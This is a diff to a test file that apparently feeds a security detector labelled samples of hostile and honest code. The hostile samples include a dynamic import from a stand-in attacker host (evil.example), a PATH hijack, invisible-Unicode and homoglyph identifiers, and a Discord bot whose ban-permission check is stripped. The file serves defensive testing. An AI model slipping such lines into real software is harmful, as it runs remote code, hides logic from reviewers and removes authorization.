@@ -150,7 +150,15 @@ NODE = {
     "all that is given": "fs.rmSync(...options);",
     "a stub in a program": "fs.rmSync = options.remove;",
 }
+NODE |= {
+    "a module from an address": "import('https://evil.example/a.mjs').then((m) => m.run());",
+    "a module from a text": "import('data:text/javascript,run()');",
+    "a global by a made name": "globalThis[options.name](at);",
+    "a global by a made name, and then": "const run = (window[options.name] = window[options.other]); run(at);",
+    "a class that is made": "const { Server } = require('https'); new Server(options).listen(1);",
+}
 HONEST_NODE = {
+    "a class that is asked for": "const { Server } = require('https'); if (at instanceof Server) return null;",
     "an address that is looked at": "const net = require('node:net'); if (net.isIP(at) || net.isIPv6(at)) return null;",
     "a file": "fs.rmSync(at, { force: true });",
     "a file, and then": "fs.rm(at, () => options.done());",
@@ -167,7 +175,13 @@ NODE_TEST = {
     "a place that is opened": "files.open('/home/a/.ssh/id_rsa');",
     "a stub for what starts programs": "const cp = require('child_process'); cp.exec = () => 1; cp.exec('id');",
 }
+NODE_TEST |= {
+    "a process handed on": "use(process);",
+    "a process handed on to what spies": "spyOn(process, name);",
+    "a process that is spied on alone": "jest.spyOn(process);",
+}
 HONEST_NODE_TEST = {
+    "a function that is spied on": "jest.spyOn(process, 'exit').mockImplementation(() => 1);",
     "a stub": "const kept = net.connect; net.connect = () => 1; try { join(); } finally { net.connect = kept; }",
     "a stub alone": "http.get = () => 1;",
     "a place that is only said": "expect(clean('../../etc/passwd')).toBe('');",
@@ -214,9 +228,19 @@ PYTHON_TEST = {
     "what a module has by a text": "getattr(sarge, name)('id')",
     "a program by the name of quotes": "from sarge import run as shell_quote; shell_quote('id')",
 }
+PYTHON_TEST |= {
+    "a package that stands elsewhere": "subprocess.run([sys.executable, '-m', 'shop'], cwd=at)",
+    "a package that stands where the test goes": "os.chdir(at); subprocess.run([sys.executable, '-m', 'shop'])",
+    "a place for programs, by a fixture": "monkeypatch.setenv('PATH', at); subprocess.run(['shop'])",
+    "an invisible letter of the code": "a\u3164b = 1",
+    "a text that turns": "assert clean('a\u202eb') == ''",
+    "a name that looks like another": "p\u0430y = 1",
+}
 HONEST_PYTHON_TEST = {
+    "an invisible letter that is taken away": "assert clean('a\u200bb') == 'ab'",
+    "a word that looks like another": "assert clean('p\u0430y') == 'pay'",
     "the program": "assert subprocess.run(['shop', 'add', 'tea'], capture_output=True, timeout=9).returncode == 1",
-    "the program as a package": "assert subprocess.run([sys.executable, '-m', 'shop', 'add'], cwd=at).returncode == 1",
+    "the program as a package": "assert subprocess.run([sys.executable, '-m', 'shop', 'add'], timeout=9).returncode == 1",
     "a place that is turned away": "assert not may_ask('http://169.254.169.254/latest')",
     "quotes": "assert sarge.shell_quote('a b') == done('a b')",
 }
@@ -282,6 +306,38 @@ MIGRATIONS = {
 HONEST_MIGRATIONS = {"undone": ("", "    op.drop_constraint('ck_teas_few', 'teas')\n    op.drop_table('teas')")}
 
 
+COG = (
+    "from discord.ext import commands\n\n\nclass Till(commands.Cog):\n    async def cog_check(self, ctx):\n"
+    "        return await self.bot.is_owner(ctx.author)\n\n    @commands.command()\n"
+    "    @commands.has_permissions(ban_members=True)\n"
+    "    async def ban(self, ctx, who):\n        reason = f'asked by {ctx.author}'\n"
+    "        await ctx.guild.ban(who, reason=reason)\n        await ctx.send(f'{who} is banned')\n\n"
+    "    @commands.command()\n    async def pay(self, ctx):\n        await ctx.send('paid')\n"
+)
+CHECK = COG[COG.index("    async def cog_check") : COG.index("    @commands")]
+BAN = COG[COG.index("    @commands") : COG.index("    @commands.command()\n    async def pay")]
+OPEN = BAN.replace("    @commands.has_permissions(ban_members=True)\n", "")
+DOES = "send('paid')\n        await ctx.guild.ban(who, reason=reason)"
+LISTENS = COG.replace("@commands.command()\n    @commands.has", "@commands.Cog.listener()\n    @commands.has")
+COGS: dict[str, tuple[Files, Files]] = {
+    "a check that the library calls": ({"till.py": COG}, {"till.py": COG.replace(CHECK, "")}),
+    "a check that is left off": ({"till.py": COG}, {"till.py": COG.replace(BAN, OPEN)}),
+    "a command by another name": (
+        {"till.py": COG},
+        {"till.py": COG.replace(BAN, OPEN.replace("def ban", "def remove"))},
+    ),
+    "a command that moved": ({"till.py": COG}, {"till.py": COG.replace(BAN, ""), "mod.py": OPEN}),
+    "what a command did": ({"till.py": COG}, {"till.py": COG.replace(BAN, "").replace("send('paid')", DOES)}),
+    "what a listener turned away": (
+        {"till.py": LISTENS},
+        {"till.py": LISTENS.replace(BAN.replace("@commands.command()", "@commands.Cog.listener()"), "")},
+    ),
+}
+HONEST_COGS: dict[str, tuple[Files, Files]] = {
+    "a command that is gone": ({"till.py": COG}, {"till.py": COG.replace(BAN, "")})
+}
+
+
 def refused(before: Files, after: Files) -> list[str]:
     files = {path: None if text is None else text.encode() for path, text in after.items()}
     tree = {path: text for path, text in before.items() if text is not None}
@@ -324,6 +380,7 @@ def starts(body: str) -> list[str]:
 
 _HOSTILE = [
     *((refused, rows, name) for name, rows in TESTS.items()),
+    *((refused, rows, name) for name, rows in COGS.items()),
     *((in_file, rows, name) for name, rows in CONDITIONS.items()),
     *((in_node, (line,), name) for name, line in NODE.items()),
     *((in_node_test, (line,), name) for name, line in NODE_TEST.items()),
@@ -335,6 +392,7 @@ _HOSTILE = [
 ]
 _HONEST = [
     *((refused, rows, name) for name, rows in HONEST_TESTS.items()),
+    *((refused, rows, name) for name, rows in HONEST_COGS.items()),
     *((in_file, rows, name) for name, rows in HONEST_CONDITIONS.items()),
     *((in_node, (line,), name) for name, line in HONEST_NODE.items()),
     *((in_node_test, (line,), name) for name, line in HONEST_NODE_TEST.items()),
